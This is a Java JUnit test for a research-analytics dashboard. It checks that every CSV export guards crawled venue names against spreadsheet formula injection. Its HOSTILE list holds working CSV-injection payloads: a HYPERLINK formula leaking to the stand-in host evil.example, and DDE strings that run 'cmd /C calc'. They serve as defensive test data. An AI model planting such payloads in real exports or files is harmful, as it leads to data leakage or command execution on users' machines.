package dev.framewatch.dashboard;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import dev.framewatch.analytics.report.IndexFreshness;
import dev.framewatch.analytics.report.ReportArchive;
import dev.framewatch.analytics.report.WeeklyReportBuilder;
import dev.framewatch.analytics.share.ShareFormat;
import dev.framewatch.analytics.trend.ShareTrends;
import dev.framewatch.analytics.trend.TrendFormat;
import dev.framewatch.core.record.EvidenceRecord;
import dev.framewatch.core.record.Paper;
import dev.framewatch.dashboard.testing.DashboardFixture;
import dev.framewatch.index.schema.Dimension;
import dev.framewatch.index.count.ShareCounts;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Crawled venues that a spreadsheet would run as formulas ({@code = + - @} first), through every CSV export: the share and trend
 * CSVs, the weekly report's CSV files and the dashboard's {@code /chart/<view>.csv} over real HTTP. Each export must carry the
 * venue with a leading {@code '}, and no cell of any export may start with a formula character unless it is a plain number.
 */
class CsvExportsNeutraliseFormulasTest {
  /** Venues as crawled; the index keeps them lower-cased. */
  static final List<String> HOSTILE = List.of("=HYPERLINK(\"https://evil.example/?leak\",\"open\")", "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0");
  static final Pattern NUMBER = Pattern.compile("-?[0-9]+(\\.[0-9]+)?");

  @TempDir static Path dir;
  static DashboardFixture fx;

  @BeforeAll
  static void start() throws Exception {
    List<EvidenceRecord> papers = new ArrayList<>();
    for (int v = 0; v < HOSTILE.size(); v++) {
      for (int year = 2019; year <= 2020; year++) {
        for (int i = 0; i < 2; i++) {
          String id = "paper:hostile:" + v + ":" + year + ":" + i;
          papers.add(new Paper(id, "test", null, "Hostile venue " + id, HOSTILE.get(v), year, List.of(), List.of(),
              List.of(), i == 0 || year == 2020 ? "Our code uses PyTorch." : "Implemented in TensorFlow.", null, null, null));
        }
      }
    }
    fx = new DashboardFixture(dir, "s3cret", papers);
  }

  @AfterAll
  static void stop() {
    fx.close();
  }

  @Test
  void shareCsv() throws Exception {
    assertNeutralised("share", ShareFormat.csv(fx.shares.share(List.of(Dimension.VENUE, Dimension.YEAR), "kind:paper")));
  }

  @Test
  void trendCsv() throws Exception {
    ShareCounts counts = fx.shares.share(List.of(Dimension.VENUE, Dimension.YEAR), "kind:paper");
    TrendFormat.Trends trends = new TrendFormat.Trends(counts.methodName() + " " + counts.methodVersion(), "year",
        ShareTrends.changes(counts, Dimension.YEAR), List.of(), List.of(), Map.of());
    assertNeutralised("trend", TrendFormat.render(trends, ShareFormat.Kind.CSV));
  }

  @Test
  void reportCsvFiles() throws Exception {
    var report = new WeeklyReportBuilder(fx.shares, Map.of("paper", 0.5, "job", 0.5),
        Clock.fixed(Instant.parse("2022-04-25T06:00:00Z"), ZoneOffset.UTC))
        .build("2022-W16", IndexFreshness.read(fx.dataDir.resolve("index")));
    Path week = ReportArchive.write(report, dir.resolve("report-out"));
    assertNeutralised("report by-conference.csv", Files.readString(week.resolve("by-conference.csv")));
    try (var files = Files.list(week)) {
      for (Path csv : files.filter(p -> p.toString().endsWith(".csv")).toList()) {
        assertNoFormula("report " + csv.getFileName(), Files.readString(csv));
      }
    }
  }

  @Test
  void dashboardChartCsv() throws Exception {
    HttpResponse<String> r = HttpClient.newHttpClient().send(
        HttpRequest.newBuilder(URI.create(fx.url("/chart/papers.csv"))).build(), HttpResponse.BodyHandlers.ofString());
    assertEquals(200, r.statusCode(), r.body());
    assertNeutralised("chart", r.body());
  }

  /** Every hostile venue appears, guarded, as a whole cell; nothing else starts like a formula. */
  static void assertNeutralised(String export, String csv) throws Exception {
    List<String> cells = cells(csv);
    for (String venue : HOSTILE) {
      String indexed = venue.toLowerCase(java.util.Locale.ROOT);
      assertTrue(cells.contains("'" + indexed), export + " lacks the guarded venue '" + indexed + "':\n" + csv);
      assertFalse(cells.contains(indexed), export + " carries the venue unguarded:\n" + csv);
    }
    assertNoFormula(export, csv);
  }

  static void assertNoFormula(String export, String csv) throws Exception {
    for (String cell : cells(csv)) {
      boolean formulaStart = cell.length() > 1 && "=+-@".indexOf(cell.charAt(0)) >= 0;
      assertFalse(formulaStart && !NUMBER.matcher(cell).matches(), export + ": cell " + cell + " would run:\n" + csv);
    }
  }

  /** The cells as a spreadsheet reads them (quotes removed, doubled quotes undone). */
  static List<String> cells(String csv) throws Exception {
    List<String> out = new ArrayList<>();
    try (MappingIterator<String[]> rows = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY)
        .readerFor(String[].class).readValues(csv)) {
      rows.forEachRemaining(row -> out.addAll(List.of(row)));
    }
    return out;
  }
}
